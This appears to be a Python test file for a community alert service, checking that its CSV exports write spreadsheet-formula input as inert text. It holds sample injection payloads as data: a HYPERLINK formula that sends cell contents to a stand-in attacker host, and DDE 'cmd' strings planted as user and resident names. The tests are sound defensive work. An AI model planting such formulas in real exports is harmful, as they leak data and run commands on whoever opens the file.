"""Every CSV the service writes opens in a spreadsheet as text: a cell an attacker could fill (a
sign-in name, a resident's name or room) never becomes a formula, and Excel reads the Chinese."""

from __future__ import annotations

import csv
import io
import urllib.request

from audiences.population import Population
from audiences.registry import Registry
from audiences.volunteers import VolunteerRole
from broadcast.core.context import Context
from broadcast.core.csv_export import csv_document, spreadsheet_cell
from broadcast.core.tokens import volunteer_token
from broadcast.running.worker import drain
from broadcast.web.console.users import Role
from tests.conftest import STREET, Stack
from tests.helpers import add_user, issue
from tests.test_console_access import Visitor

FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
BOM = "\ufeff".encode()


def rows_of(raw: bytes) -> list[list[str]]:
    assert raw.startswith(BOM), "UTF-8 with a byte-order mark, so Excel reads the Chinese"
    return list(csv.reader(io.StringIO(raw[len(BOM) :].decode("utf-8"))))


def test_cells_that_a_spreadsheet_would_run_are_written_as_text() -> None:
    risky = ["=1+1", "+8613900000000", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＠A1"]
    assert [spreadsheet_cell(v) for v in risky] == ["'" + v for v in risky]
    assert [spreadsheet_cell(v) for v in ("张伟", "1-2", "", 7, None)] == ["张伟", "1-2", "", 7, ""]
    document = csv_document(["name", "n"], [['=cmd|" /C calc"!A0', 3], ['a "quoted", cell', -1]])
    assert rows_of(document.encode()) == [["name", "n"], ['\'=cmd|" /C calc"!A0', "3"], ['a "quoted", cell', "-1"]]


def test_a_formula_signed_in_as_a_name_reaches_the_audit_export_as_text(
    ctx: Context, population: Population, stack: Stack
) -> None:
    add_user(ctx, "root.admin", Role.admin)
    attacker = Visitor(stack.url)
    assert attacker.sign_in(FORMULA, "whatever it is").status == 401
    admin = Visitor(stack.url)
    admin.sign_in("root.admin")
    answer = admin.send("/console/audit.csv")
    assert answer.status == 200
    rows = rows_of(answer.text.encode())
    actors = [row[2] for row in rows[1:]]
    assert "'" + FORMULA.lower() in actors
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)


def test_the_committee_roll_up_export_writes_names_and_rooms_as_text(
    ctx: Context, population: Population, stack: Stack
) -> None:
    worker = next(v for v in population.volunteers if v.role is VolunteerRole.community_worker)
    neighbours = [r for r in population.residents if r.community == worker.community][:4]
    planted = {"=cmd|' /C calc'!A0": "+1", "@SUM(1+1)": "-1", "-3+3": "=2", "+86 room": "@A1"}
    changed = [
        r.model_copy(update={"name": name, "room": room})
        for r, (name, room) in zip(neighbours, planted.items(), strict=True)
    ]
    Registry(ctx.redis, ctx.keys).upsert(changed)
    alert = issue(ctx, [STREET])
    drain(ctx)
    token = volunteer_token(ctx.secret, worker.id, alert.id)
    with urllib.request.urlopen(f"{stack.url}/w/{token}/export.csv", timeout=10) as response:
        rows = rows_of(response.read())
    header, body = rows[0], rows[1:]
    cells = {(row[header.index("name")], row[header.index("room")]) for row in body}
    assert {("'" + name, "'" + room) for name, room in planted.items()} <= cells
    assert not any(cell[:1] in "=+-@" for row in body for cell in row if cell)
